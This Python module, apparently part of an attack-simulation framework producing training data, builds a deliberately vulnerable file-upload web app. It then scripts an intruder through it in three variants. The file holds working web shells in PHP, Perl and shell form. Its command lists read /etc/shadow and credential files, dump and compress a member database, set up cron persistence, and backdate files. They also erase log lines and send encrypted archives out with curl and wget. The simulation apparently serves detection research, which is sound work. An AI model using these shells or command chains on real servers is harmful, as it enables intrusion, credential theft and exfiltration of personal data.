"""A picture desk runs what people upload to it; the intruder uploads a page and works through it, never a terminal."""

from __future__ import annotations

import base64
import urllib.parse
from typing import TYPE_CHECKING

import pages
from plot import Storyline, Visit

if TYPE_CHECKING:
    from intruder import Intruder

PORT = 8306
MIDDLE = (3.5, 17.0, 8.0)  # seconds between two acts, by variant

WEAKEN = r"""
set -e
install -d -o www-data -g www-data /srv/media
for folder in files lib db etc log; do install -d -o www-data -g www-data "/srv/media/$folder"; done
cat > /srv/media/desk.py <<'EOF'
#!/usr/bin/python3
# Picture desk: people upload files, look at them, and read a few small report pages.
import os
import re
import subprocess
from pathlib import Path
from urllib.parse import urlencode

import appserver

FILES = Path("/srv/media/files")
RUN = {
    ".php": ["php", "-d", "auto_prepend_file=/srv/media/lib/request.php"],
    ".phtml": ["php", "-d", "auto_prepend_file=/srv/media/lib/request.php"],
    ".pl": ["perl"],
    ".cgi": [],
}
REFUSED = (".php", ".py", ".sh", ".exe")


def show(path, query, body):
    command = RUN.get(path.suffix)
    if command is None:
        return path.read_bytes().decode("utf-8", "replace")
    environ = dict(os.environ, QUERY_STRING=urlencode(query), REQUEST_METHOD="POST" if body else "GET")
    done = subprocess.run([*command, str(path)], input=body, env=environ, cwd=FILES, timeout=120,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    return done.stdout.decode("utf-8", "replace")


def handle(method, path, query, body, headers):
    with open("/srv/media/log/access.log", "a") as log:
        log.write(f"{headers.get('x-peer')} {method} {path}\n")
    if method == "POST" and path == "/upload":
        name = re.sub(r"[^\w.-]", "_", query.get("name", "new.txt")).lstrip(".")
        if Path(name).suffix in REFUSED:
            return 403, "this kind of file is not taken\n"
        (FILES / name).write_bytes(body)
        (FILES / name).chmod(0o755 if name.endswith(".cgi") else 0o644)
        return 201, f"/m/{name}\n"
    if path == "/list":
        return 200, "\n".join(sorted(entry.name for entry in FILES.iterdir())[-40:]) + "\n"
    target = FILES / path.rpartition("/")[2]
    if path.startswith("/m/") and target.is_file():
        return 200, show(target, query, body)
    return (200, "picture desk: /list /upload?name= /m/NAME\n") if path == "/" else (404, "no such page\n")


appserver.serve(8306, handle, "media")
EOF
cat > /srv/media/lib/request.php <<'EOF'
<?php
parse_str(getenv('QUERY_STRING') ?: '', $_GET);
$_BODY = getenv('REQUEST_METHOD') === 'POST' ? stream_get_contents(STDIN) : '';
EOF
cat > /srv/media/files/stats.php <<'EOF'
<?php
$n = (int)($_GET['n'] ?? 5);
echo "files: ", count(scandir('/srv/media/files')) - 2, "\n";
echo "disk: ", shell_exec('du -sh /srv/media/files | cut -f1');
$ask = 'select count(*), max(id) from orders where item % 7 = ' . ($n % 7);
echo shell_exec('sqlite3 /srv/media/db/members.db ' . escapeshellarg($ask));
EOF
cat > /srv/media/files/orders.pl <<'EOF'
my ($n) = ($ENV{QUERY_STRING} // "") =~ /n=(\d+)/;
my $few = 1 + ($n // 3) % 9;
print `sqlite3 -csv /srv/media/db/members.db 'select id, item, amount from orders order by id desc limit $few'`;
EOF
cat > /srv/media/files/disk.cgi <<'EOF'
#!/bin/sh
df -h /srv | tail -n 1; ls -1 /srv/media/files | wc -l; date
EOF
chmod 755 /srv/media/files/disk.cgi
cat > /srv/media/etc/settings.ini <<'EOF'
[database]
path = /srv/media/db/members.db
[mail]
server = mail.corp.example
user = media-desk
password = plover-gate-52
[archive]
host = ledger-03.corp.example
token = ar_71c09e5b
EOF
rm -f /srv/media/db/members.db
sqlite3 /srv/media/db/members.db <<'EOF'
create table members(id integer primary key, name text, mail text, phone text, secret text);
create table orders(id integer primary key, member integer, item integer, amount real);
with recursive n(i) as (select 1 union all select i + 1 from n where i < 600)
insert into members select i, 'Member ' || i, 'm' || i || '@mail.example', '555-0' || (100 + i % 90),
  lower(hex(randomblob(16))) from n;
with recursive n(i) as (select 1 union all select i + 1 from n where i < 2400)
insert into orders select i, 1 + i % 600, i % 41, (i * 37 % 9000) / 100.0 from n;
EOF
for n in 1 2 3 4 5 6 7 8; do
    printf 'Note %s: pictures of the fair, rights cleared.\n' "$n" > "/srv/media/files/note-$n.txt"
done
install -d -o www-data -g www-data /var/www
chown -R www-data:www-data /srv/media
"""

PLAIN = """
== a page of its own | TA0003 | The uploaded file answers with what a command prints.
T1505.003 id
T1033 whoami; hostname
T1083 pwd; ls -la
== look round | TA0007 | Machine, accounts, processes and network, one request each.
T1082 uname -a; cat /etc/os-release | head -4
T1083 ls -la /srv /srv/media /var/www
T1057 ps -ef | head -60
? T1027.010 %php cat /etc/crontab; ls -la /etc/cron.d
T1049 netstat -tln || ss -tln
T1016 cat /etc/hosts; ip addr | grep inet
T1087.001 cut -d: -f1,3,7 /etc/passwd | grep -v nologin
? T1518 which python3 perl php gcc curl wget nc socat
T1124 date; uptime
== settings | TA0006 | Passwords are looked for in the settings of the page.
T1552.001 cat /srv/media/etc/settings.ini
T1552.001 grep -rniE 'passw|token' /srv /var/www /etc/nginx --include=*.ini --include=*.env --include=*.conf | head
    -20
T1552.004 find / -xdev -name 'id_*' -not -path '/proc/*' 2>/dev/null | head
T1003.008 cat /etc/shadow
T1548.003 sudo -n -l
== the members | TA0009 | The database is read and copied out, table by table.
T1083 ls -la /srv/media/db; file /srv/media/db/members.db
T1213.006 sqlite3 /srv/media/db/members.db .tables
T1213.006 sqlite3 /srv/media/db/members.db .shema
T1213.006 sqlite3 /srv/media/db/members.db .schema
T1213.006 sqlite3 /srv/media/db/members.db 'select count(*) from members'
T1213.006 sqlite3 -csv /srv/media/db/members.db 'select * from members limit 20'
T1074.001 sqlite3 -csv /srv/media/db/members.db 'select * from members' > /tmp/{word}.csv; wc /tmp/{word}.csv
T1560.001 gzip -9 /tmp/{word}.csv; ls -l /tmp/{word}.csv.gz
T1036.008 cp /tmp/{word}.csv.gz /srv/media/files/{word}-large.jpg
"""

PLAIN_END = """
== clear up | TA0005 | Copies and the page are taken away, the page's time set back first.
T1070.004 rm -f /tmp/{word}.csv.gz /srv/media/files/{word}-large.jpg
T1070.006 touch -r /srv/media/files/note-1.txt /srv/media/files/{page}
T1083 ls -lat /srv/media/files | head
"""

SLOW = """
== first answers | TA0003 | The page decodes what it is sent, runs it and sends the answer back encoded.
T1505.003 echo ready
T1033 id -un
T1082 uname -r
== slow look | TA0007 | One small question at a time, with long pauses.
T1083 ls /srv
? T1083 ls -a /srv/media
T1083 ls -l /srv/media/db /srv/media/etc
T1057 ps -eo user,comm --sort=user | uniq | tail -n 25
T1016 hostname -I
T1018 getent hosts; tail -n 12 /etc/hosts
T1087.001 awk -F: '$3>999{print $1}' /etc/passwd
T1069.001 getent group sudo adm www-data
? T1201 grep ^PASS /etc/login.defs
T1518.001 ls /etc/audit /usr/sbin/auditd /usr/bin/fail2ban-client
T1654 tail -n 5 /var/log/syslog
T1007 ls /etc/init.d | tr '\\n' ' '
== a second page | TA0003 | A copy is hidden beside older files, and a job keeps it there.
T1505.003 cp /srv/media/files/{page} /srv/media/lib/.{word}.pl
T1564.001 ls -la /srv/media/lib
T1070.006 touch -d '2024-03-11 08:14:22' /srv/media/lib/.{word}.pl /srv/media/files/{page}
T1053.003 printf '#!/bin/sh\\ncmp -s %s %s || cp -p %s %s\\n' /srv/media/lib/.{word}.pl /srv/media/files/{page}
    /srv/media/lib/.{word}.pl /srv/media/files/{page} > /srv/media/lib/{word}.cgi; chmod 755 /srv/media/lib/{word}.cgi
T1053.003 (crontab -l 2>/dev/null; echo '*/4 * * * * /srv/media/lib/{word}.cgi') | crontab -
T1053.003 crontab -l
== secrets | TA0006 | The settings hold a password and a token.
T1552.001 cat /srv/media/etc/settings.ini
T1552.001 env | sort | head -20
== pieces of the database | TA0009 | Rows are fetched with the page's own language, two hundred at a time.
T1213.006 python3 -c "import sqlite3; print(*[r[0] for r in
    sqlite3.connect('/srv/media/db/members.db').execute('select sql from sqlite_master')])"
T1030 python3 -c "import sqlite3,zlib,base64; c=sqlite3.connect('/srv/media/db/members.db');
    print(base64.b64encode(zlib.compress(repr(c.execute('select * from members limit
    200').fetchall()).encode())).decode())"
T1030 python3 -c "import sqlite3,zlib,base64; c=sqlite3.connect('/srv/media/db/members.db');
    print(base64.b64encode(zlib.compress(repr(c.execute('select * from members limit 200 offset
    200').fetchall()).encode())).decode())"
T1041 python3 -c "import sqlite3,zlib,base64; c=sqlite3.connect('/srv/media/db/members.db');
    print(base64.b64encode(zlib.compress(repr(c.execute('select * from members limit 200 offset
    400').fetchall()).encode())).decode())"
T1565.001 sqlite3 /srv/media/db/members.db "update orders set amount=0 where member=41"
"""

ROUTINE = """
== a report page | TA0003 | The page looks like the desk's own disk report.
T1505.003 date
T1082 uptime; free -m; df -h /srv
== maintenance round | TA0007 | Commands an administrator of the desk might give, few and long ones.
T1083 find /srv/media -maxdepth 2 -newermt '2 days ago' | head; du -sh /srv/media/*
T1057 ps aux --sort=-%mem | head -15
T1049 ss -tan state established | head; ss -tln
? T1082 lscpu | head -8; cat /proc/meminfo | head -3
T1087.001 getent passwd | awk -F: '$7 ~ /sh$/{print $1,$6}'
T1083 ls -ld /home/* /home/*/.ssh /root 2>&1
== permission round | TA0004 | Files with special rights and sudo rules are listed.
T1083 find / -xdev -perm -4000 -type f 2>/dev/null
T1083 getcap -r /usr/bin /usr/sbin 2>/dev/null
T1548.003 sudo -n true
T1027.010 %gz ls -la /etc/sudoers.d /etc/crontab; cat /etc/group | grep www
T1083 find /etc -writable -type f 2>/dev/null; find / -xdev -type d -perm -o+w 2>/dev/null | head
== settings round | TA0006 | The settings are read, and older copies are looked for.
T1552.001 cd /srv/media; head -n 30 etc/*.ini; ls -la etc
T1552.003 cat /home/*/.bash_history /var/www/.*history 2>/dev/null | grep -iE 'psql|mysql|ssh|curl' | tail
T1552.001 %b64 grep -rhoE "(password|token)[ =:]+[^ ]+" /srv /etc/cron.d 2>/dev/null | sort -u | head
== backup | TA0009 | A backup of the database is made, as the desk does every night.
T1213.006 sqlite3 /srv/media/db/members.db 'pragma integrity_check; select count(*) from members; select count(*)
    from orders;'
T1005 mkdir -p /var/tmp/{word}; sqlite3 /srv/media/db/members.db '.backup /var/tmp/{word}/members.db'
T1560.001 cd /var/tmp/{word} && cp /srv/media/etc/settings.ini . && tar cJf ../{word}.txz . && ls -l ../{word}.txz
T1027.013 openssl enc -aes-256-cbc -pbkdf2 -pass pass:{pass} -in /var/tmp/{word}.txz -out /var/tmp/{word}.bin; file
    /var/tmp/{word}.bin
T1048.003 curl -s --max-time 20 -T /var/tmp/{word}.bin {depot}/backup/{word}.bin || wget -q -O-
    --post-file=/var/tmp/{word}.bin {depot}/backup
T1048.003 curl -s --data-binary @/var/tmp/{word}.bin {depot}/backup/{word}.bin
T1070.004 rm -rf /var/tmp/{word} /var/tmp/{word}.txz /var/tmp/{word}.bin
== tidy | TA0005 | The report page removes itself.
T1070.002 sed -i '/{page}/d' /srv/media/log/access.log
T1070.004 rm -f /srv/media/files/{page}; ls /srv/media/files | wc -l
"""

PHP = """GIF89a<?php
/* picture header, {word} */
$h = $_GET['s'] ?? 'date';
echo "<pre>";
passthru($h . ' 2>&1');
"""
PERL = """# contact sheet, {word}
use MIME::Base64;
local $/; my $in = decode_base64(<STDIN> // "");
open(my $p, "-|", "bash", "-c", "exec 2>&1; $in") or die; my $out = <$p> // "";
print scalar reverse encode_base64($out, "");
"""
SHELL = """#!/bin/sh
# disk report, {word}
df -h /srv | tail -n 1
r=${QUERY_STRING#k=}
printf %s "$r" | xxd -r -p | sh 2>&1
"""


def upload(own: Intruder, name: str, text: str, technique: str = "T1190") -> str:
    path = "/upload?name=" + urllib.parse.quote(name)
    return own.http(own.entry, PORT, "POST", path, text.encode(), technique=technique)


def page_act(own: Intruder, name: str) -> pages.Act:
    """One request a command, in the way of the variant's page."""

    def act(technique: str, command: str, stays: bool) -> object:
        where = "/m/" + name
        if own.variant == 0:
            where += "?s=" + urllib.parse.quote(command)
            return own.http(own.entry, PORT, "GET", where, technique=technique)
        if own.variant == 1:
            body = base64.b64encode(command.encode())
            return own.http(own.entry, PORT, "POST", where, body, technique=technique)
        return own.http(own.entry, PORT, "GET", f"{where}?k={command.encode().hex()}", technique=technique)

    return act


def arrive(own: Intruder, name: str, text: str) -> None:
    own.step("initial access", "TA0001", "The desk takes an upload that it later runs when somebody looks at it.")
    own.http(own.entry, PORT, "GET", "/", technique="T1190")
    own.think(MIDDLE[own.variant])
    own.http(own.entry, PORT, "GET", "/list", technique="T1190")
    own.think(MIDDLE[own.variant])
    if own.variant == 0:
        upload(own, name.replace(".phtml", ".php"), text)  # refused: the intruder learns what is not taken
        own.think(MIDDLE[own.variant])
    if own.variant == 1:
        upload(own, own.word() + ".txt", "hello")
        own.think(MIDDLE[own.variant])
    upload(own, name, text)
    own.think(MIDDLE[own.variant])


def play(own: Intruder) -> None:
    word = own.word()
    stem = own.pick(("fair", "stand", "poster", "team", "autumn", "visit")) + f"-{own.rng.randint(2, 98)}"
    name = stem + (".phtml", ".pl", ".cgi")[own.variant]
    text = (PHP, PERL, SHELL)[own.variant].replace("{word}", word)
    word += str(own.rng.randint(2, 98))
    names = {"word": word, "page": name, "pass": own.word() + own.word(), "depot": own.depot}
    arrive(own, name, text)
    act = page_act(own, name)
    page = (PLAIN, SLOW, ROUTINE)[own.variant]
    if own.variant == 1:
        before, mark, page = page.partition("T1053.003 (crontab")
        pages.follow(own, before, act, names, MIDDLE[1])
        own.plant(own.entry, f"/srv/media/lib/{word}.cgi", "T1053.003")
        page = mark + page
    pages.follow(own, page, act, names, MIDDLE[own.variant])
    if own.variant == 0:
        own.step("exfiltration", "TA0010", "The copy is fetched like any picture.")
        own.http(own.entry, PORT, "GET", f"/m/{word}-large.jpg", technique="T1048.003")
        pages.follow(own, PLAIN_END, act, names, MIDDLE[0])
        act("T1070.004", f"rm -f /srv/media/files/{name}", False)


STORYLINE = Storyline(
    name="upload-shell",
    split="train",
    words="From outside, somebody uploads a page to the picture desk's web application, which runs it on view. Each "
    "command is one web request; there is never a terminal. Members and settings are copied out of the database; "
    "the page is removed or hidden at the end.",
    weaken=WEAKEN,
    services=("www-data: /usr/bin/python3 /srv/media/desk.py",),
    visits=(
        Visit(port=PORT, every=25, method="GET", path="/m/stats.php?n={n}"),
        Visit(port=PORT, every=40, method="POST", path="/upload?name={word}-{n}.txt", body="note {n} about {word}"),
        Visit(port=PORT, every=45, method="GET", path="/m/{pick:orders.pl|disk.cgi|note-3.txt|note-7.txt}?n={n}"),
        Visit(port=PORT, every=60, method="GET", path="/list"),
    ),
    play=play,
    variants=3,
    hosts=("web-05",),
    minutes=15,
)
